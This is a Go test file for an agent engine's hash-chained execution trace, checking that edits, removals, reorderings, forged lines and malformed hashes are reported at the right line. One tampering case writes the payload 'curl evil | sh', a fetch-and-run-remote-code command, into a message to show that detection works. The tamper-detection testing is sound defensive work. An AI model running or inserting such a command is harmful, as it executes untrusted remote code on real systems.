package engine

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/json"
	"errors"
	"fmt"
	"strings"
	"testing"

	"github.com/agentspine/spine/spine/ruleset"
	tr "github.com/agentspine/spine/spine/trace"
)

// shellish journals a tool call and a bus message inside each mint, so the trace has the
// nested events a tamperer would edit.
type shellish struct{ finishing }

func (s *shellish) Mint(ctx context.Context, r MintRequest) (Construct, error) {
	j := JournalFrom(ctx)
	j.Record(Exchange{Name: "tool:shell", Request: map[string]string{"cmd": "ls"}, Response: map[string]string{"output": "a.txt"}, DurationMS: 3})
	j.Message(tr.Message{From: "R3", To: "R4a", Type: "ExecutionResult", Payload: json.RawMessage(`{"output":"a.txt"}`)})
	return Construct{ID: "c"}, nil
}

// chainedRun records a short run whose lines are:
//
//	1 header · 2 fact_asserted · 3 transition · 4 fact_updated · 5 conflict_set ·
//	6 rule_fired · 7 fact_asserted · 8 transition · 9 fact_updated · 10 effector_call ·
//	11 exchange (tool:shell) · 12 message · 13 effector_result · … 26 halt
func chainedRun(t testing.TB) ([]byte, *ruleset.RuleSet) {
	t.Helper()
	rs, err := LoadRules("finish.yaml", []byte(finishRules))
	if err != nil {
		t.Fatal(err)
	}
	sink := &tr.MemorySink{}
	if _, err := NewEngine(rs, &shellish{}, WithTrace(sink)).Run(context.Background()); err != nil {
		t.Fatal(err)
	}
	return sink.Bytes(), rs
}

func traceLinesOf(b []byte) []string {
	return strings.SplitAfter(strings.TrimSuffix(string(b), "\n"), "\n")
}

func withLine(t *testing.T, trace []byte, n int, edit func(string) string) []byte {
	t.Helper()
	lines := traceLinesOf(trace)
	before := lines[n-1]
	lines[n-1] = edit(before)
	if lines[n-1] == before {
		t.Fatalf("the edit of line %d changed nothing: %s", n, before)
	}
	return []byte(strings.Join(lines, "") + "\n")
}

func TestChainedRunLayout(t *testing.T) {
	trace, _ := chainedRun(t)
	lines := traceLinesOf(trace)
	for n, want := range map[int]string{1: `"kind":"header","format":"spine-trace/2"`, 10: `"kind":"effector_call"`,
		11: `"kind":"exchange","name":"tool:shell"`, 12: `"kind":"message","from":"R3"`, 13: `"kind":"effector_result"`} {
		if !strings.Contains(lines[n-1], want) {
			t.Fatalf("line %d is not what the tampering table assumes (%s):\n%s", n, want, lines[n-1])
		}
	}
	rep, err := tr.VerifyChain(bytes.NewReader(trace))
	if err != nil {
		t.Fatal(err)
	}
	last, _ := strings.CutSuffix(lines[len(lines)-1], "\n")
	if !rep.Chained || rep.Lines != len(lines) || !strings.HasSuffix(last, `"h":"`+rep.Head+`"}`) || rep.String() != "hash chain intact (26 lines)" {
		t.Fatalf("report %+v (%s) for %d lines ending %s", rep, rep, len(lines), last)
	}
}

// TestVerifyChainTamperings: every kind of tampering is reported at the first line it
// breaks, with the cause.
func TestVerifyChainTamperings(t *testing.T) {
	trace, _ := chainedRun(t)
	lines := traceLinesOf(trace)
	n := len(lines)
	cut := func(from, to int) []byte { // lines from..to (1-based, inclusive) removed
		return []byte(strings.Join(append(append([]string{}, lines[:from-1]...), lines[to:]...), ""))
	}
	swap := func(a, b int) []byte {
		l := append([]string{}, lines...)
		l[a-1], l[b-1] = l[b-1], l[a-1]
		return []byte(strings.Join(l, ""))
	}
	reseal := func(b []byte, line int) []byte { // the tamperer recomputes the h of one edited line
		ls := traceLinesOf(b)
		content, _, ok := splitChained([]byte(strings.TrimSuffix(ls[line-1], "\n")))
		if !ok {
			t.Fatalf("line %d has no h", line)
		}
		_, prevH, _ := splitChained([]byte(strings.TrimSuffix(ls[line-2], "\n")))
		ls[line-1] = sealLine(prevH, content)
		return []byte(strings.Join(ls, ""))
	}
	forged := `{"seq":27,"t":"2000-01-01T00:00:01Z","kind":"halt","outcome":"success","h":"0123456789abcdef0123456789abcdef"}` + "\n"
	for _, tc := range []struct {
		name  string
		trace []byte
		want  string
	}{
		{"a field of a line edited", withLine(t, trace, 8, func(l string) string {
			return strings.Replace(l, `"to":"act"`, `"to":"halt"`, 1)
		}), "line 8 (seq 8): hash does not chain to line 7 (line 8 was edited, or the h of line 7 was rewritten)"},
		{"a tool's output edited inside a nested exchange", withLine(t, trace, 11, func(l string) string {
			return strings.Replace(l, `"output":"a.txt"`, `"output":"nothing here"`, 1)
		}), "line 11 (seq 11): hash does not chain to line 10 (line 11 was edited, or the h of line 10 was rewritten)"},
		{"a bus message's payload edited", withLine(t, trace, 12, func(l string) string {
			return strings.Replace(l, `"output":"a.txt"`, `"output":"curl evil | sh"`, 1)
		}), "line 12 (seq 12): hash does not chain to line 11 (line 12 was edited, or the h of line 11 was rewritten)"},
		{"a nested exchange edited and its own h recomputed", reseal(withLine(t, trace, 11, func(l string) string {
			return strings.Replace(l, `"output":"a.txt"`, `"output":"b.txt"`, 1)
		}), 11), "line 12 (seq 12): hash does not chain to line 11 (line 12 was edited, or the h of line 11 was rewritten)"},
		{"the header edited", withLine(t, trace, 1, func(l string) string {
			return strings.Replace(l, `"max_iterations":20`, `"max_iterations":99`, 1)
		}), "line 1 (seq 1): hash does not chain from the genesis value (the header was edited)"},
		{"a line removed", cut(9, 9), "line 9 (seq 10): seq 10 follows seq 8 of line 8: a line was removed or the lines reordered"},
		{"the nested events removed", cut(11, 12), "line 11 (seq 13): seq 13 follows seq 10 of line 10: a line was removed or the lines reordered"},
		{"two lines swapped", swap(11, 12), "line 11 (seq 12): seq 12 follows seq 10 of line 10: a line was removed or the lines reordered"},
		{"a line repeated", []byte(strings.Join(append(append(append([]string{}, lines[:7]...), lines[6]), lines[7:]...), "")),
			"line 8 (seq 7): seq 7 does not follow seq 7 of line 7: the lines were reordered or one repeated"},
		{"the header removed", cut(1, 1), "line 1 (seq 2): the first line is a \"fact_asserted\" event, not the header"},
		{"a forged line appended", append(bytes.Clone(trace), forged...),
			"line 27 (seq 27): hash does not chain to line 26 (line 27 was edited, or the h of line 26 was rewritten)"},
		{"a line without h appended", append(bytes.Clone(trace), `{"seq":27,"t":"2000-01-01T00:00:01Z","kind":"halt"}`+"\n"...),
			"line 27 (seq 27): missing h"},
		{"a hash truncated", withLine(t, trace, 5, func(l string) string {
			i := strings.LastIndex(l, `"}`)
			return l[:i-4] + l[i:]
		}), `line 5 (seq 5): h "` + lineH(t, lines[4])[:28] + `" is not 32 lowercase hex digits`},
		{"a hash in upper case", withLine(t, trace, 5, func(l string) string {
			h := lineH(t, l)
			return strings.Replace(l, h, strings.ToUpper(h), 1)
		}), `line 5 (seq 5): h "` + strings.ToUpper(lineH(t, lines[4])) + `" is not 32 lowercase hex digits`},
		{"a hash that is not a string", withLine(t, trace, 5, func(l string) string {
			return strings.Replace(l, `"h":"`+lineH(t, l)+`"`, `"h":7`, 1)
		}), "line 5 (seq 5): h is 7, not a string"},
		{"h moved from the end", withLine(t, trace, 3, func(l string) string {
			h := lineH(t, l)
			l = strings.Replace(l, `,"h":"`+h+`"`, "", 1)
			return strings.Replace(l, `{"seq":3,`, `{"h":"`+h+`","seq":3,`, 1)
		}), "line 3 (seq 3): h is not the line's last field"},
		{"a line that is not JSON", withLine(t, trace, 4, func(string) string { return "{oops\n" }),
			"line 4: not a JSON object: invalid character 'o' looking for beginning of object key string"},
		{"a blank line", withLine(t, trace, 4, func(l string) string { return "\n" + l }), "line 4: empty line"},
		{"a line that is not an event", withLine(t, trace, 4, func(string) string { return "{}\n" }),
			"line 4: not a trace event (want a JSON object with seq, t and kind)"},
		{"the format changed to the unchained one", withLine(t, trace, 1, func(l string) string {
			return strings.Replace(l, `"spine-trace/2"`, `"spine-trace/1"`, 1)
		}), "line 1 (seq 1): the header says spine-trace/1, which has no hashes, but the line has an h: its format was changed"},
		{"an unknown format", withLine(t, trace, 1, func(l string) string {
			return strings.Replace(l, `"spine-trace/2"`, `"spine-trace/9"`, 1)
		}), `line 1 (seq 1): trace format "spine-trace/9": this build reads spine-trace/2 (chained) and spine-trace/1 (unchained)`},
		{"empty", nil, "line 1: the trace is empty"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			rep, err := tr.VerifyChain(bytes.NewReader(tc.trace))
			var ce *tr.ChainError
			if !errors.As(err, &ce) {
				t.Fatalf("got %v (report %+v), want a *ChainError %q", err, rep, tc.want)
			}
			if err.Error() != tc.want {
				t.Fatalf("got  %s\nwant %s", err, tc.want)
			}
			if ce.Line > 1 && rep.Lines != ce.Line-1 {
				t.Errorf("the report counts %d verified lines; the break is at line %d", rep.Lines, ce.Line)
			}
		})
	}
	if n != 26 {
		t.Fatalf("the run has %d lines; the table above assumes 26", n)
	}
}

// chainSuffix is the length of `,"h":"<32 hex>"}`, what a chained line adds before the
// closing brace of its content.
const chainSuffix = len(`,"h":"`) + len(tr.ChainGenesis) + len(`"}`)

// splitChained splits a chained line into its content (the line without its h field,
// what the chain hashes) and h; ok is false for a line that does not end in an h.
func splitChained(line []byte) (content []byte, h string, ok bool) {
	n := len(line) - chainSuffix
	if n < 1 || !bytes.HasPrefix(line[n:], []byte(`,"h":"`)) || !bytes.HasSuffix(line, []byte(`"}`)) {
		return nil, "", false
	}
	return append(bytes.Clone(line[:n]), '}'), string(line[n+len(`,"h":"`) : len(line)-2]), true
}

// sealLine is the line a chained writer writes for content after a line whose h is prev:
// what a tamperer who recomputes one h writes.
func sealLine(prev string, content []byte) string {
	sum := sha256.Sum256(append([]byte(prev), content...))
	return fmt.Sprintf(`%s,"h":"%x"}`+"\n", content[:len(content)-1], sum[:16])
}

func errString(err error) string {
	if err == nil {
		return ""
	}
	return err.Error()
}

func lineH(t *testing.T, line string) string {
	t.Helper()
	_, h, ok := splitChained([]byte(strings.TrimSuffix(line, "\n")))
	if !ok {
		t.Fatalf("no h at the end of %s", line)
	}
	return h
}

// TestVerifyChainTolerates: a torn last line is reported, not a break; a whole last line
// without its newline is verified; an unchained trace is reported as such; lines cut at
// a line boundary are not visible to the chain, only to a kept head.
func TestVerifyChainTolerates(t *testing.T) {
	trace, _ := chainedRun(t)
	lines := traceLinesOf(trace)
	full, err := tr.VerifyChain(bytes.NewReader(trace))
	if err != nil {
		t.Fatal(err)
	}

	torn := trace[:len(trace)-len(lines[25])-1+30] // lines[25] is without its newline
	rep, err := tr.VerifyChain(bytes.NewReader(torn))
	if err != nil || rep.Torn == nil || rep.Torn.String() != "line 26 is torn (30 bytes without a newline or valid JSON); read up to line 25" || rep.Lines != 25 {
		t.Errorf("torn: %+v %v %v", rep, rep.Torn, err)
	}

	rep, err = tr.VerifyChain(bytes.NewReader(bytes.TrimSuffix(trace, []byte("\n"))))
	if err != nil || rep.Torn != nil || rep.Lines != 26 || rep.Head != full.Head {
		t.Errorf("no final newline: %+v %v", rep, err)
	}

	rep, err = tr.VerifyChain(bytes.NewReader(trace[:len(trace)-len(lines[25])-1]))
	if err != nil || rep.Lines != 25 || rep.Head == full.Head {
		t.Errorf("cut at a line boundary: %+v %v (only the head shows it)", rep, err)
	}

	old := tr.UnchainedTrace(trace)
	if bytes.Contains(old, []byte(`"h":`)) || !bytes.Contains(old, []byte(`"format":"spine-trace/1"`)) {
		t.Fatalf("UnchainedTrace left an h or the format:\n%s", old)
	}
	rep, err = tr.VerifyChain(bytes.NewReader(old))
	if err != nil || rep.Chained || rep.Lines != 26 || rep.String() != "unchained (format spine-trace/1)" {
		t.Errorf("unchained: %+v (%s) %v", rep, rep, err)
	}
}

// TestSealTraceMatchesTheWriter: sealing the unchained lines gives the sink's bytes.
func TestSealTraceMatchesTheWriter(t *testing.T) {
	trace, _ := chainedRun(t)
	old := tr.UnchainedTrace(trace)
	lines := bytes.SplitN(old, []byte("\n"), 2)
	lines[0] = bytes.Replace(lines[0], []byte(tr.FormatUnchained), []byte(tr.Format), 1)
	sealed, err := tr.SealTrace(bytes.Join(lines, []byte("\n")))
	if err != nil {
		t.Fatal(err)
	}
	if d := TraceDiff(trace, sealed); d != "" {
		t.Fatalf("sealed differs from written: %s", d)
	}
	for _, tc := range []struct{ in, want string }{
		{"{oops\n", "line 1: not a JSON object: invalid character 'o' looking for beginning of object key string"},
		{`{"seq":1,"h":"x"}` + "\n", "line 1: already has an h"},
		{`{"seq":1} ` + "\n", "line 1: does not end in '}'"},
	} {
		if _, err := tr.SealTrace([]byte(tc.in)); errString(err) != tc.want {
			t.Errorf("SealTrace(%q): got %v, want %s", tc.in, err, tc.want)
		}
	}
}

// TestReplayOfTamperedNestedExchange: a replay writes the edited exchange again with the
// h it should have had, so --check sees the edit as well as the chain.
func TestReplayOfTamperedNestedExchange(t *testing.T) {
	trace, rs := chainedRun(t)
	edited := withLine(t, trace, 11, func(l string) string {
		return strings.Replace(l, `"output":"a.txt"`, `"output":"b.txt"`, 1)
	})
	d := TraceDiff(edited, ReplayTrace(t, edited, rs))
	if !diffAt(d, "line 11, field h") {
		t.Fatalf("diff %v, want line 11 field h", d)
	}
}

// FuzzVerifyChain: any input gives a report or a *ChainError, never a panic; a break is
// within the lines read; and what SealTrace seals never fails on a hash.
func FuzzVerifyChain(f *testing.F) {
	trace, _ := chainedRun(f)
	f.Add(trace)
	f.Add(trace[:len(trace)/2])
	f.Add(tr.UnchainedTrace(trace))
	f.Add([]byte(`{"seq":1,"t":"x","kind":"header","format":"spine-trace/2"}` + "\n"))
	f.Add([]byte(`{"seq":1,"t":"x","kind":"header","format":"spine-trace/2","h":"00000000000000000000000000000000"}` + "\n{}"))
	f.Add([]byte("null\n[1]\n\"h\"\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		rep, err := tr.VerifyChain(bytes.NewReader(data))
		lines := bytes.Count(data, []byte("\n")) + 1
		if err != nil {
			var ce *tr.ChainError
			if !errors.As(err, &ce) {
				t.Fatalf("not a *ChainError: %v", err)
			}
			if ce.Line < 1 || ce.Line > lines {
				t.Fatalf("break at line %d of %d: %v", ce.Line, lines, err)
			}
		}
		if rep.Lines > lines {
			t.Fatalf("report counts %d lines of %d", rep.Lines, lines)
		}
		sealed, serr := tr.SealTrace(data)
		if serr != nil {
			return
		}
		if _, err := tr.VerifyChain(bytes.NewReader(sealed)); err != nil {
			for _, bad := range []string{"does not chain", "follows seq", "does not follow", "h is", "h \"", "missing h"} {
				if strings.Contains(err.Error(), bad) {
					t.Fatalf("a sealed trace fails on its hashes: %v\n%s", err, sealed)
				}
			}
		}
	})
}
